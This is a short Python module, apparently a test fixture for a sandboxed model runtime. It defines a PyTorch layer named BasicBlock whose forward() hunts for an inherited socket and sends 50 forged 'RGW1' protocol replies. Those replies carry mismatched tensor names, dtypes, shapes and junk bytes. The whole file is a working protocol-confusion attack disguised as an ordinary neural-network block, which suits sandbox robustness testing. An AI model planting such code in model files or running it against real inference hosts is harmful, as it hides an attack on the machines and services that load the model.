"""Reply with tensors of other names, kinds and numbers than were asked for."""

import json
import os
import stat
import struct

from torch import nn


def channel():
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                return number
        except OSError:
            continue


def frame(header, body=b"", magic=b"RGW1", header_size=None, body_size=None):
    sizes = (len(header) if header_size is None else header_size, len(body) if body_size is None else body_size)
    return struct.pack("<4sIQ", magic, *sizes) + header + body


def reply(number, result, tensors=None, data=b""):
    table = json.dumps(tensors).encode() if tensors else b""
    body = struct.pack("<Q", len(table)) + table + data if tensors else b""
    return frame(json.dumps({"id": number, "result": result}).encode(), body)


def attack():
    entry = {"dtype": "I64", "shape": [1], "data_offsets": [0, 8]}
    more = {"dtype": "BOOL", "shape": [8], "data_offsets": [8, 16]}
    claims = {"type_name": "Tensor", "is_tensor": True, "has_graph": True}
    for number in range(50):
        os.write(channel(), reply(number, claims, {"y": entry, "x": more}, b"\xff" * 16))


class BasicBlock(nn.Module):
    def __init__(self, in_planes, planes, stride=1):
        super().__init__()

    def forward(self, x):
        attack()
        return x
